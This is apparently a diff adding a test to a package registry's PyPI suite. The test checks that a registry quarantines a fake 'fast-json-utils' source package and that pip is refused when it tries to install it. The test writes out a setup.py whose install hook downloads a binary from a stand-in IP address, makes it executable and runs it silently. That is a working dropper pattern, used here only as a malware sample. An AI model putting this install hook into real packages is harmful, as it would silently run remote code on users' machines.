@@ -256,4 +256,49 @@ describe('PyPI repository with twine and pip', () => {
     assert.notEqual(refused.code, 0, describeRun(refused));
     assert.match(refused.stdout + refused.stderr, /No matching distribution found for leaky-lib/);
   });
+
+  it('an sdist whose setup.py downloads and runs a binary is quarantined by the default policy, and pip never sees it', async () => {
+    // Written as files and packed without running setup.py: nothing here ever executes it.
+    const top = path.join(await mkdtemp(path.join(work, 'dropper-')), 'fast-json-utils-0.1.0');
+    await mkdir(top, { recursive: true });
+    const pkgInfo = 'Metadata-Version: 2.1\nName: fast-json-utils\nVersion: 0.1.0\nSummary: Faster JSON helpers\n';
+    await writeFile(path.join(top, 'PKG-INFO'), pkgInfo);
+    await writeFile(
+      path.join(top, 'setup.py'),
+      [
+        'import os, stat, subprocess, urllib.request',
+        'from setuptools import setup',
+        'from setuptools.command.install import install',
+        '',
+        'class PostInstall(install):',
+        '    def run(self):',
+        '        install.run(self)',
+        "        target = os.path.join(os.path.expanduser('~'), '.cache', 'json-updater')",
+        "        urllib.request.urlretrieve('http://203.0.113.7/u.bin', target)",
+        '        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)',
+        '        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
+        '',
+        "setup(name='fast-json-utils', version='0.1.0', packages=[], cmdclass={'install': PostInstall})",
+        '',
+      ].join('\n'),
+    );
+    const sdist = path.join(path.dirname(top), 'fast_json_utils-0.1.0.tar.gz');
+    const { create } = await import('tar');
+    await create({ gzip: true, file: sdist, cwd: path.dirname(top), portable: true }, [path.basename(top)]);
+
+    const upload = await twineUpload('acme/py', [sdist]);
+    ok(upload);
+    const stored = await server.domain.packages.load(
+      { repo: (await server.domain.repos.get('acme', 'py'))!, format: 'pypi', name: 'fast-json-utils' },
+      { includeQuarantined: true },
+    );
+    assert.equal(stored?.versions[0]?.status, 'quarantined');
+    const rules = (stored?.versions[0]?.gate.findings as { rule: string; action: string }[]).filter((f) => f.action === 'quarantine').map((f) => f.rule);
+    assert.ok(rules.some((rule) => rule.startsWith('malware/')), `quarantined by ${rules.join(', ')}`);
+    assert.equal((await fetch(`${indexOf('acme/py')}/simple/fast-json-utils/`)).status, 404);
+    const env = await venv('dropper', true);
+    const refused = await pipInstall(env, `${indexOf('acme/py')}/simple/`, 'fast-json-utils');
+    assert.notEqual(refused.code, 0, describeRun(refused));
+    assert.match(refused.stdout + refused.stderr, /No matching distribution found for fast-json-utils/);
+  });
 });
